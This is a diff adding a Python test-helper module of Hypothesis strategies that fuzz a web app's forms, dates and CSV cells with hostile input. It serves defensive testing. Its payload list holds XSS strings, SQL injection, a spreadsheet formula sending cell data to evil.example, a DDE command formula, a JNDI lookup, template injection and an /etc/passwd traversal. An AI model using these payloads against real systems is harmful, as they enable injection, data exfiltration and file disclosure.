@@ -1,0 +1,195 @@
+"""Hypothesis strategies for hostile input: text, dates, wrong types, missing fields, ids.
+
+Used by tests/test_hostile_input.py. Nothing here touches the database.
+"""
+
+from __future__ import annotations
+
+import re
+import tempfile
+from dataclasses import dataclass, field
+from pathlib import Path
+
+from hypothesis import HealthCheck, Phase, settings
+from hypothesis import strategies as st
+from hypothesis.configuration import set_hypothesis_home_dir
+
+# database=None keeps examples out of .hypothesis/, but hypothesis also caches constants
+# and unicode tables there: keep all of it out of the repository.
+set_hypothesis_home_dir(Path(tempfile.gettempdir()) / "hypothesis-hostile-input")
+
+# Reproducible in CI, and nothing written to .hypothesis/ in the repository.
+HOSTILE = settings(
+    max_examples=25,
+    deadline=None,
+    derandomize=True,
+    database=None,
+    # No shrinking: a server error stops the example at once, and the suite stays fast.
+    phases=[Phase.explicit, Phase.reuse, Phase.generate],
+    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
+)
+HOSTILE_IMPORT = settings(HOSTILE, max_examples=30)
+
+SCRIPT = "<script>alert(1)</script>"
+IMG = '"><img src=x onerror=alert(1)>'
+# What must never reach a page unescaped.
+RAW_MARKERS = ("<script>alert(1)</script>", "<img src=x onerror=alert(1)>")
+
+SNIPPETS = (
+    SCRIPT,
+    IMG,
+    "'; DROP TABLE placements_child; --",
+    "1' OR '1'='1",
+    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
+    "=cmd|' /C calc'!A0",
+    "+SUM(1,2)",
+    "@SUM(1)",
+    "\u202egnp.exe",  # right-to-left override
+    "\u200f\u202bAbc\u202c",
+    "a\x00b",  # NUL
+    "\x01\x02\x07\x1b[31m",
+    "\r\n\r\n",
+    "{{ 7*7 }}{% debug %}",
+    "${jndi:ldap://x}",
+    "../../etc/passwd",
+    "𝕬\U0001f600 Zalgo z̷̢a̶l̵g̸o",
+    "",
+    " ",
+)
+
+CONTROL = st.characters(codec="utf-8", categories=["Cc", "Cf", "Zl", "Zp"])
+
+
+def long_text(max_size: int = 100_000) -> st.SearchStrategy[str]:
+    """Very long strings (up to max_size), some with a payload inside."""
+    return st.builds(
+        lambda n, piece: (piece or "A") * max(1, n // max(1, len(piece or "A"))),
+        st.integers(min_value=min(201, max_size), max_value=max_size),
+        st.sampled_from(("A", SCRIPT, "é", "\u202e", "x" * 7)),
+    )
+
+
+def hostile_text(max_long: int = 100_000) -> st.SearchStrategy[str]:
+    return st.one_of(
+        st.sampled_from(SNIPPETS),
+        st.text(max_size=60),
+        st.text(alphabet=CONTROL, max_size=20),
+        st.builds(lambda a, b: a + b, st.sampled_from(SNIPPETS), st.text(max_size=20)),
+        long_text(max_long),
+    )
+
+
+DATE_PART = st.one_of(
+    st.integers(min_value=-5, max_value=40).map(str),
+    st.sampled_from(
+        (
+            "0",
+            "00",
+            "99999",
+            "-1",
+            "2026",
+            "1",
+            "9999",
+            "10000",
+            # (a year of 30 nines overflows: test_date_year_overflow covers it)
+            "abc",
+            "",
+            " 3 ",
+            "1e3",
+            "٣",  # Arabic-Indic digit three
+            "3.0",
+            "0x10",
+            "31",
+            "29",
+            SCRIPT,
+        )
+    ),
+)
+
+
+@st.composite
+def hostile_date_parts(draw) -> tuple[str, str, str]:
+    """(day, month, year) as typed into a GOV.UK date input."""
+    kind = draw(st.integers(0, 3))
+    if kind == 0:  # a real date, possibly far off
+        year = draw(st.sampled_from(["1", "1900", "2025", "2026", "2100", "9999"]))
+        return (str(draw(st.integers(1, 28))), str(draw(st.integers(1, 12))), year)
+    return (draw(DATE_PART), draw(DATE_PART), draw(DATE_PART))
+
+
+def hostile_date_text() -> st.SearchStrategy[str]:
+    """A date as a CSV cell."""
+    return st.one_of(
+        hostile_date_parts().map(lambda p: "/".join(p)),
+        hostile_date_parts().map(lambda p: f"{p[2]}-{p[1]}-{p[0]}"),
+        st.sampled_from(("01/01/0000", "31/12/9999", "00/00/2020", "29/02/2023", "2026-13-01")),
+        hostile_text(200),
+    )
+
+
+# --- Form specs ---------------------------------------------------------------------
+
+
+@dataclass
+class Field:
+    """One form field and how to fuzz it.
+
+    kind: "text", "date" (GOV.UK three-part), "choice" (valid values to mix in), "id"
+    (a key of the world's id pools), "bool".
+    """
+
+    name: str
+    kind: str = "text"
+    choices: tuple[str, ...] = ()
+    pool: str = ""
+
+
+@dataclass
+class FormSpec:
+    name: str  # URL name
+    persona: str  # fixture name of the user allowed to post (None: anonymous)
+    url: str  # key of the world's URLs
+    fields: list[Field] = field(default_factory=list)
+    extra: dict = field(default_factory=dict)
+
+
+def _wrong_type(draw, value_strategy):
+    """A list where a scalar is expected (repeated keys), or an int as a string."""
+    return draw(
+        st.one_of(
+            st.lists(value_strategy, min_size=2, max_size=3),
+            st.integers(min_value=-(2**70), max_value=2**70).map(str),
+        )
+    )
+
+
+@st.composite
+def form_data(draw, spec: FormSpec, ids: dict[str, list[str]]) -> dict:
+    """Fuzzed POST data for `spec`: some fields missing, some of the wrong type."""
+    data: dict = {}
+    for f in spec.fields:
+        if draw(st.integers(0, 9)) == 0:  # missing
+            continue
+        if f.kind == "date":
+            parts = draw(hostile_date_parts())
+            for i, part in enumerate(parts):
+                data[f"{f.name}_{i}"] = part
+            if draw(st.integers(0, 12)) == 0:
+                data[f.name] = draw(hostile_text(200))  # the un-split name
+            continue
+        if draw(st.integers(0, 9)) == 0:
+            data[f.name] = _wrong_type(draw, hostile_text(200))
+            continue
+        if f.kind == "choice":
+            data[f.name] = draw(st.one_of(st.sampled_from(f.choices), hostile_text(500)))
+        elif f.kind == "id":
+            data[f.name] = draw(st.sampled_from(ids[f.pool]))
+        elif f.kind == "bool":
+            data[f.name] = draw(st.sampled_from(["on", "true", "1", "", "no", SCRIPT]))
+        else:
+            data[f.name] = draw(hostile_text())
+    data.update(spec.extra)
+    return data
+
+
+LINE = re.compile(r"line \d+")
